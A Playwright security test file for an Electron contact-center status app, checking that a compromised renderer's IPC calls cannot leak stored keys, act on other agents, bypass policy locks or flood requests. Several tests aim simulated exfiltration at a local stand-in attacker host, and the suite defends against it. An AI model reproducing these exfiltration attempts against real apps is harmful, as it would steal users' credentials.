/**
 * Tests what a compromised renderer can do with well-formed IPC calls: it can switch this agent's status, and nothing else.
 * Only calls that every version has are used, so that each attack can be run against older versions.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import type { RequestLogEntry } from '../../../simulator/api/api.ts';
import { startSimulator } from '../../../simulator/server.ts';
import type { AccountForm } from '../../../shared/ipc/forms.ts';
import { newProfile } from '../../support/desktop/app.ts';
import { respondToDialogs } from '../../support/desktop/dialogs.ts';
import {
  AGENT,
  expect,
  fillInAccount,
  KEY,
  SDK_APP_ID,
  waitForConfirmedStatus,
  test as base,
} from '../../support/desktop/fixtures.ts';
import { startRecordingHost, type RecordingHost } from '../../support/desktop/network/recording-host.ts';
import { storeAccount } from '../../support/desktop/stored-account.ts';

const TOKEN = 'markerToken7standby9AbCdEfGhIjKlMnOpQrStUvWxYz0123456789';
const SUPERVISOR = 'supervisor@example.com';
/** Data that a compromised page tries to send to another host. */
const PAGE_SECRET = `EXFIL:${'x'.repeat(480)}`;

const test = base.extend<{ attacker: RecordingHost }>({
  // Playwright reads the names of other fixtures from this first parameter; this fixture needs none.
  // eslint-disable-next-line no-empty-pattern
  attacker: async ({}, use) => {
    const host = await startRecordingHost();
    await use(host);
    await host.close();
  },
});

/** Creates an account form. Empty key fields mean the stored key. */
const createForm = (customAddress: string, change: Partial<AccountForm> = {}): AccountForm => ({
  edition: 'custom',
  customAddress,
  sdkAppId: String(SDK_APP_ID),
  agent: AGENT,
  secretId: '',
  secretKey: '',
  token: '',
  keyStorage: 'keychain',
  ...change,
});

/** A key that the page invents: a request can carry data away without the stored key. */
const madeUpKey = { secretId: 'AKIDmadeUpByThePage0001', secretKey: 'madeUpByThePageAsWell00001' };

const checkAccount = (page: Page, form: AccountForm) =>
  page.evaluate((typed) => window.standby.account.check(typed), form);
const saveAccount = (page: Page, form: AccountForm) =>
  page.evaluate((typed) => window.standby.account.save(typed), form);

/** Requests a status, and waits for success or failure. */
const switchToLunch = (page: Page) =>
  page.evaluate(async () => {
    const settled = new Promise<void>((resolve) => {
      const stop = window.standby.on('state', ({ agent }) => {
        if (agent.intent !== null || (agent.failure === null && agent.receipt === null)) return;
        stop();
        resolve();
      });
    });
    await window.standby.status.request({ status: 'rest', reason: 'Lunch', minutes: null });
    await settled;
  });

test('the stored key signs nothing for another host, even if the agent confirms every dialog', async ({
  standby,
  attacker,
}) => {
  const { page } = standby;
  const form = createForm(attacker.url, { agent: PAGE_SECRET });
  await respondToDialogs(standby, 'confirm');
  await checkAccount(page, form);
  await checkAccount(page, createForm(attacker.url));
  await saveAccount(page, createForm(attacker.url));
  await page.evaluate(() => window.standby.status.retryNow());
  await page.evaluate(() => window.standby.account.retryKeychain());
  expect(attacker.requests).toEqual([]);
});

test('nothing is sent to another host with a key that the page invented, unless the agent confirms', async ({
  standby,
  attacker,
}) => {
  const { page } = standby;
  const getDialogMessages = await respondToDialogs(standby, 'cancel');
  const form = createForm(attacker.url, { ...madeUpKey, agent: PAGE_SECRET });
  await checkAccount(page, form);
  await saveAccount(page, form);
  await page.evaluate(() => window.standby.account.useSimulator());
  await saveAccount(page, form);
  await page.evaluate(() => window.standby.account.leaveSimulator());
  await page.evaluate(() => window.standby.account.retryKeychain());
  expect(attacker.requests).toEqual([]);
  // The dialogs name the host.
  const dialogMessages = await getDialogMessages();
  expect(dialogMessages).toHaveLength(3);
  for (const dialogMessage of dialogMessages) expect(dialogMessage).toContain(new URL(attacker.url).host);
});

test('another agent’s status is neither read nor set with the stored key', async ({ standby, service }) => {
  const { page } = standby;
  await respondToDialogs(standby, 'confirm');
  const form = createForm(service.url, { agent: SUPERVISOR });
  await checkAccount(page, form);
  await saveAccount(page, form);
  await page.evaluate(() => window.standby.account.useSimulator());
  await saveAccount(page, form);
  await page.evaluate(() => window.standby.account.leaveSimulator());
  await switchToLunch(page);
  const agents = new Set(service.requests.flatMap((request) => request.agents.map(({ agent }) => agent)));
  expect([...agents]).toEqual([AGENT]);
  expect(service.agent(AGENT)?.status).toBe('rest');
});

test('another account needs confirmation in a native dialog, also with a key that the page invented', async ({
  standby,
  service,
}) => {
  const { page, profileDir } = standby;
  const getDialogMessages = await respondToDialogs(standby, 'cancel');
  const settings = () => readFileSync(join(profileDir, 'settings.json'), 'utf8');
  const before = settings();
  await saveAccount(page, createForm(service.url, { ...KEY, agent: SUPERVISOR }));
  await saveAccount(page, createForm(service.url, { ...KEY, sdkAppId: '1400000001' }));
  await saveAccount(page, createForm('', { ...KEY, edition: 'mainland' }));
  expect(settings()).toBe(before);
  const [agent, application, endpoint] = await getDialogMessages();
  expect(agent).toContain(`${AGENT} → ${SUPERVISOR}`);
  expect(application).toContain(`${SDK_APP_ID} → 1400000001`);
  expect(endpoint).toContain(`${new URL(service.url).host} → ccc.tencentcloudapi.com`);
});

test('a key for this session only is bound to its account as well', async ({ start, service, attacker }) => {
  const app = await start();
  const page = await app.window();
  await fillInAccount(page, service.url);
  await page.getByRole('button', { name: 'More options' }).click();
  await page.getByRole('radio', { name: 'For this session only' }).check();
  await page.getByRole('button', { name: 'Check and finish' }).click();
  await waitForConfirmedStatus(app.tray);
  await checkAccount(page, createForm(attacker.url));
  await saveAccount(page, createForm(attacker.url, { keyStorage: 'session' }));
  await page.evaluate(() => window.standby.account.retryKeychain());
  expect(attacker.requests).toEqual([]);
});

for (const edited of ['address', 'agent', 'application'] as const) {
  test(`edited settings do not redirect the stored key to another ${edited}, and the failure says what to do`, async ({
    start,
    attacker,
    service,
  }) => {
    const profileDir = await storeAccount(service.url);
    const file = join(profileDir, 'settings.json');
    const { account, ...settings } = JSON.parse(readFileSync(file, 'utf8')) as { account: object };
    const edits = {
      address: { customAddress: attacker.url },
      agent: { agent: SUPERVISOR },
      application: { sdkAppId: 1400000001 },
    };
    writeFileSync(file, JSON.stringify({ ...settings, account: { ...account, ...edits[edited] } }));
    const app = await start({ profileDir });
    await app.tray.click('Open Standby');
    const page = await app.window();
    await page.evaluate(() => window.standby.status.request({ status: 'rest', reason: '', minutes: null }));
    await expect(page.getByRole('alert')).toContainText('Enter the key again in Settings');
    expect(attacker.requests).toEqual([]);
    expect(service.requests).toEqual([]);
  });
}

test('connection tests in a loop are rate-limited, and a switch is still sent', async ({
  standby,
  service,
}) => {
  const { page } = standby;
  const before = service.requests.length;
  const begin = performance.now();
  const outcomes = await page.evaluate(async (form) => {
    const results: string[] = [];
    for (let round = 0; round < 10; round += 1) {
      const checks = Array.from({ length: 10 }, () => window.standby.account.check(form));
      results.push(...(await Promise.all(checks)).map(({ outcome }) => outcome));
    }
    return results;
  }, createForm(service.url));
  const seconds = (performance.now() - begin) / 1_000;
  // A burst of ten, and two a second.
  const allowed = 10 + 2 * seconds;
  expect(outcomes.filter((outcome) => outcome === 'valid').length).toBeLessThanOrEqual(allowed);
  expect(outcomes.filter((outcome) => outcome !== 'valid' && outcome !== 'failed')).toEqual([]);
  // Two more for the app's own readings.
  expect(service.requests.length - before).toBeLessThanOrEqual(allowed + 2);
  await switchToLunch(page);
  expect(service.agent(AGENT)?.status).toBe('rest');
});

const loops: [call: string, loop: (page: Page, form: AccountForm) => Promise<void>][] = [
  [
    'saves of the same account',
    (page, form) =>
      page.evaluate(async (typed) => {
        for (let round = 0; round < 50; round += 1) await window.standby.account.save(typed);
      }, form),
  ],
  [
    'switches',
    (page) =>
      page.evaluate(async () => {
        for (let round = 0; round < 100; round += 1) {
          await window.standby.status.request({
            status: round % 2 ? 'rest' : 'notReady',
            reason: '',
            minutes: null,
          });
        }
      }),
  ],
  [
    'checks of the status',
    (page) =>
      page.evaluate(async () => {
        for (let round = 0; round < 200; round += 1) await window.standby.status.checkNow();
      }),
  ],
  [
    'reads of the keychain',
    (page) =>
      page.evaluate(async () => {
        for (let round = 0; round < 50; round += 1) await window.standby.account.retryKeychain();
      }),
  ],
  [
    'starts of the simulator',
    (page) =>
      page.evaluate(async () => {
        for (let round = 0; round < 20; round += 1) {
          await window.standby.account.useSimulator();
          await window.standby.account.leaveSimulator();
        }
      }),
  ],
];
for (const [call, loop] of loops) {
  test(`${call} in a loop do not exceed the request limit`, async ({ standby, service }) => {
    const { page } = standby;
    const before = service.requests.length;
    const begin = performance.now();
    await loop(page, createForm(service.url));
    // A burst of ten, and two a second.
    const allowed = 10 + 2 * ((performance.now() - begin) / 1_000);
    expect(service.requests.length - before).toBeLessThanOrEqual(allowed);
    await switchToLunch(page);
    expect(service.agent(AGENT)?.status).toBe('rest');
  });
}

/** Creates a policy with a credential process that prints a temporary key. */
async function createPolicy(settings: object): Promise<{ env: Record<string, string>; remove: () => void }> {
  const folder = mkdtempSync(join(tmpdir(), 'keys-'));
  const program = join(folder, 'program');
  const keys = { SecretId: KEY.secretId, SecretKey: KEY.secretKey, Token: TOKEN };
  writeFileSync(program, `#!/bin/sh\necho '${JSON.stringify(keys)}'\n`, { mode: 0o700 });
  const file = join(await newProfile(), 'policy.json');
  writeFileSync(file, JSON.stringify({ ...settings, credentialProcess: { program } }), { mode: 0o600 });
  return { env: { STANDBY_POLICY_FILE: file }, remove: () => rmSync(folder, { recursive: true }) };
}

test.describe('under a policy that locks the account and names a credential process', () => {
  test.use({ token: TOKEN });

  test('policy locks cannot be bypassed, and the company’s key is used at its own endpoint only', async ({
    start,
    service,
    attacker,
  }) => {
    const { env, remove } = await createPolicy({
      edition: 'custom',
      customAddress: service.url,
      sdkAppId: SDK_APP_ID,
      agent: AGENT,
    });
    const app = await start({ env });
    await waitForConfirmedStatus(app.tray);
    await respondToDialogs(app, 'confirm');
    await app.tray.click('Open Standby');
    const page = await app.window();
    for (const form of [
      createForm(attacker.url, { agent: 'boss@example.com' }),
      createForm(attacker.url, madeUpKey),
      createForm('', { edition: 'mainland', agent: SUPERVISOR }),
      createForm(service.url, { agent: SUPERVISOR, sdkAppId: '1400000001' }),
    ]) {
      // Locked fields take the policy's values, so the agent's own account is tested and saved each time. A test beyond the
      // request limit is refused, and repeated here.
      await expect.poll(async () => (await checkAccount(page, form)).outcome).toBe('valid');
      await saveAccount(page, form);
    }
    expect(attacker.requests).toEqual([]);
    await switchToLunch(page);
    const agents = new Set(service.requests.flatMap((request) => request.agents.map(({ agent }) => agent)));
    expect([...agents]).toEqual([AGENT]);
    expect(service.agent(AGENT)?.status).toBe('rest');
    remove();
  });

  test('an address that the policy does not name gets no key of the company', async ({ start, attacker }) => {
    const { env, remove } = await createPolicy({ sdkAppId: SDK_APP_ID, agent: AGENT });
    const app = await start({ env });
    const page = await app.window();
    await respondToDialogs(app, 'confirm');
    await checkAccount(page, createForm(attacker.url));
    await saveAccount(page, createForm(attacker.url));
    await page.evaluate(() => window.standby.account.retryKeychain());
    expect(attacker.requests).toEqual([]);
    remove();
  });
});

test.describe('under a policy that names a credential process and leaves the agent open', () => {
  test('the company’s key neither reads nor sets another agent or application without confirmation', async ({
    start,
  }) => {
    // The contact center has the supervisor, too.
    const agents = [AGENT, SUPERVISOR];
    const requests: RequestLogEntry[] = [];
    const center = await startSimulator({
      keys: [{ ...KEY, token: TOKEN }],
      agents,
      sdkAppId: SDK_APP_ID,
      onRequest: (entry) => requests.push(entry),
    });
    const policy = { edition: 'custom', customAddress: center.url };
    const { env, remove } = await createPolicy(policy);
    const app = await start({ env });
    const page = await app.window();
    const otherAccounts = [{ agent: SUPERVISOR }, { sdkAppId: '1400000001' }].map((change) =>
      createForm(center.url, change),
    );

    // Before an account is saved, and afterwards.
    for (const isSaved of [false, true]) {
      const before = requests.length;
      const getDialogMessages = await respondToDialogs(app, 'cancel');
      for (const form of otherAccounts) {
        expect(await checkAccount(page, form)).toEqual({ outcome: 'declined' });
        expect(await saveAccount(page, form)).toEqual({ outcome: 'declined' });
      }
      expect(await getDialogMessages()).toHaveLength(4);
      const asked = requests.slice(before).flatMap((request) => request.agents.map(({ agent }) => agent));
      expect(asked.filter((agent) => agent !== AGENT)).toEqual([]);
      if (isSaved) break;
      await respondToDialogs(app, 'confirm');
      expect(await saveAccount(page, createForm(center.url))).toMatchObject({ outcome: 'saved' });
      await waitForConfirmedStatus(app.tray);
    }
    await switchToLunch(page);
    expect(center.agent(AGENT)?.status).toBe('rest');
    expect(center.agent(SUPERVISOR)?.status).not.toBe('rest');
    await center.close();
    remove();
  });
});
